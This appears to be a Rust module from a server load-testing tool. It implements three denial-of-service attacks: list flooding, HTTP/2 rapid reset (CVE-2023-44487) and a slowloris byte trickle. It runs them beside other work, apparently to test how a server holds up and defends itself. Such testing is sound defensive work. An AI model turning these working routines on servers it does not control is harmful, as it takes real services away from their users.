//! What makes a server slow for others, on purpose.

use std::pin::pin;
use std::sync::Arc;
use std::time::{Duration, Instant};

use clap::ValueEnum;
use futures_util::FutureExt;
use http::Request;
use http_body_util::Full;
use tokio::io::AsyncWriteExt;

use crate::client::{Ask, Server};
use crate::error::Result;

/// A kind of attack.
#[derive(Clone, Copy, Debug, PartialEq, Eq, ValueEnum)]
pub enum Attack {
    /// Many clients of one user list everything again and again.
    Lists,
    /// Requests are taken back as soon as they are sent (CVE-2023-44487).
    Resets,
    /// Requests are sent at a byte a second.
    Loris,
}

/// Who lists.
pub const LISTER: &str = "load-lister";
/// How many requests are sent before anybody looks whether the connection still stands.
const BURST: usize = 100;

impl Attack {
    /// Attacks on one connection after the other until the time is over. Gives how often something was done.
    pub async fn run(self, server: Arc<Server>, path: String, until: Instant) -> usize {
        let mut done = 0;
        while Instant::now() < until {
            // The server defends itself, so that connections end; the next one is made at once.
            let _ = match self {
                Attack::Lists => list(&server, &path, until, &mut done).await,
                Attack::Resets => reset(&server, &path, until, &mut done).await,
                Attack::Loris => trickle(&server, until, &mut done).await,
            };
            tokio::time::sleep(Duration::from_millis(5)).await;
        }
        done
    }
}

async fn list(server: &Server, path: &str, until: Instant, done: &mut usize) -> Result<()> {
    let mut client = server.connect().await?;
    let ask = Ask { user: Some(LISTER), ..Ask::get(path) };
    while Instant::now() < until {
        client.ask(&ask, false).await?;
        *done += 1;
    }
    Ok(())
}

async fn reset(server: &Server, path: &str, until: Instant, done: &mut usize) -> Result<()> {
    let mut sender = server.connect().await?.into_sender();
    while Instant::now() < until {
        sender.ready().await?;
        for _ in 0..BURST {
            let request = Request::get(format!("https://load{path}")).body(Full::default())?;
            // Looked at once, which sends it, and dropped, which takes it back.
            let _ = pin!(sender.send_request(request)).now_or_never();
            *done += 1;
        }
        tokio::task::yield_now().await;
    }
    Ok(())
}

async fn trickle(server: &Server, until: Instant, done: &mut usize) -> Result<()> {
    let mut stream = server.connect_raw().await?;
    stream.write_all(b"GET /healthz HTTP/1.1\r\nHost: load\r\nX-Slow: ").await?;
    while Instant::now() < until {
        stream.write_all(b"x").await?;
        stream.flush().await?;
        *done += 1;
        tokio::time::sleep(Duration::from_secs(1)).await;
    }
    Ok(())
}

/// Runs attackers beside something else; gives what that came to, and how much the attackers did.
pub async fn beside<T>(attackers: Vec<tokio::task::JoinHandle<usize>>, other: impl Future<Output = T>) -> (T, usize) {
    let outcome = other.await;
    let mut done = 0;
    for attacker in attackers {
        done += attacker.await.unwrap_or(0);
    }
    (outcome, done)
}
